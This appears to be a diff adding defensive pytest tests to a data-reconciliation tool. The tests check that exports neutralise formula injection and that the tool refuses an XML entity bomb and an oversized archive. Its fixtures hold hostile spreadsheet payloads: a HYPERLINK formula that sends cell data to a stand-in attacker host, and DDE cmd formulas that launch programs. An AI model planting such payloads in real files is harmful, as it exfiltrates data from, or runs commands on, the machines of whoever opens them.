@@ -1,0 +1,94 @@
+"""Hostile files: formula-injection text is neutralised in every export; an XML entity
+bomb and an oversized archive are refused with a clear message (exit 2, no traceback)."""
+
+from __future__ import annotations
+
+import copy
+
+import openpyxl
+import pandas as pd
+import pytest
+
+import egoveval.io.readers as readers
+from egoveval.cli.reconcile import reconcile
+from egoveval.collect.reconcile import reconcile_collections
+from egoveval.errors import InputError
+
+from .conftest import read_out, run_cli, synthetic_truth
+from .files import add_entity_bomb, rows_of, write_csv_rows, write_xlsx_rows
+
+BJ = "110000"
+EVIL_NOTE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+EVIL_SOURCE = "@SUM(1+1)*cmd|' /C calc'!A0"
+EVIL_C_NOTE = "=cmd|' /C notepad'!A1"
+
+
+@pytest.fixture()
+def pair(tmp_path):
+    truth = synthetic_truth(5)
+    b = copy.deepcopy(truth)
+    b[BJ]["ios_updates"] = truth[BJ]["ios_updates"] + 4
+    a_path = write_csv_rows(tmp_path / "A_synthetic.csv",
+                            rows_of(truth, extra={BJ: (EVIL_SOURCE, EVIL_NOTE)}))
+    b_path = write_csv_rows(tmp_path / "B_synthetic.csv", rows_of(b, extra={BJ: ("", "-2+3 " + EVIL_NOTE)}))
+    return truth, a_path, b_path
+
+
+def test_formula_injection_is_written_as_text_everywhere(pair, tmp_path):
+    truth, a_path, b_path = pair
+    out = tmp_path / "out"
+    assert run_cli(reconcile, [a_path, b_path, "--out", out]).exit_code == 3
+    disc = read_out(out / "discrepancies.csv")
+    assert disc.loc[0, "note_A"] == "'" + EVIL_NOTE
+    assert disc.loc[0, "note_B"].startswith("'-2+3")
+    ws = openpyxl.load_workbook(out / "discrepancies.xlsx").worksheets[0]
+    headers = [c.value.split("\n")[-1] for c in ws[1]]
+    cell = ws.cell(2, headers.index("note_A") + 1)
+    assert cell.value == "'" + EVIL_NOTE and cell.data_type == "s"
+    raw_xml = __import__("zipfile").ZipFile(out / "discrepancies.xlsx").read("xl/worksheets/sheet1.xml")
+    assert b"<f>" not in raw_xml  # no formula anywhere
+    # the third check writes a hostile note too; it reaches audit.csv and verified.csv neutralised
+    c = disc.copy()
+    c["decision"], c["checked_by"], c["note"] = "A", "synthetic checker", EVIL_C_NOTE
+    c_path = tmp_path / "C_synthetic.csv"
+    c.to_csv(c_path, index=False, encoding="utf-8-sig")
+    final = tmp_path / "final"
+    result = run_cli(reconcile, [a_path, b_path, "--adjudication", c_path, "--out", final])
+    assert result.exit_code == 0, result.output
+    audit = read_out(final / "audit.csv")
+    assert audit.loc[0, "why"] == "'" + EVIL_C_NOTE
+    verified = read_out(final / "verified.csv")
+    bj = verified[verified.unit_code == BJ].set_index("indicator")
+    assert bj.loc["ios_updates", "note"] == "'" + EVIL_C_NOTE
+    assert bj.loc["nat_legal_items", "source"] == "'" + EVIL_SOURCE
+    for name in ("discrepancies.csv", "audit.csv", "verified.csv", "agreement.csv"):
+        for line in (final / name).read_text(encoding="utf-8-sig").splitlines():
+            for field in line.split(","):
+                assert not field.lstrip('"').startswith(("=", "+", "@", "-2")), (name, field)
+
+
+def test_xml_entity_bomb_is_refused(tmp_path, pair):
+    truth, a_path, _ = pair
+    bomb = write_xlsx_rows(tmp_path / "B_bomb_synthetic.xlsx", rows_of(truth))
+    add_entity_bomb(bomb)
+    with pytest.raises(InputError) as info:
+        reconcile_collections(a_path, bomb)
+    assert [p.rule for p in info.value.errors] == ["io.xml_forbidden"]
+    assert "entity" in info.value.errors[0].message("en")
+    result = run_cli(reconcile, [a_path, bomb, "--out", tmp_path / "out"])
+    assert result.exit_code == 2
+    assert "Traceback" not in result.output and "nothing was written" in result.output
+    assert not (tmp_path / "out").exists()
+
+
+def test_oversized_archive_is_refused(tmp_path, pair, monkeypatch):
+    truth, a_path, _ = pair
+    big = write_xlsx_rows(tmp_path / "B_big_synthetic.xlsx", rows_of(truth))
+    monkeypatch.setattr(readers, "MAX_XLSX_UNCOMPRESSED", 2_000)
+    with pytest.raises(InputError) as info:
+        reconcile_collections(a_path, big)
+    assert [p.rule for p in info.value.errors] == ["io.too_large"]
+    result = run_cli(reconcile, [a_path, big, "--out", tmp_path / "out"])
+    assert result.exit_code == 2
+    assert "Traceback" not in result.output and "nothing was written" in result.output
+    assert not (tmp_path / "out").exists()
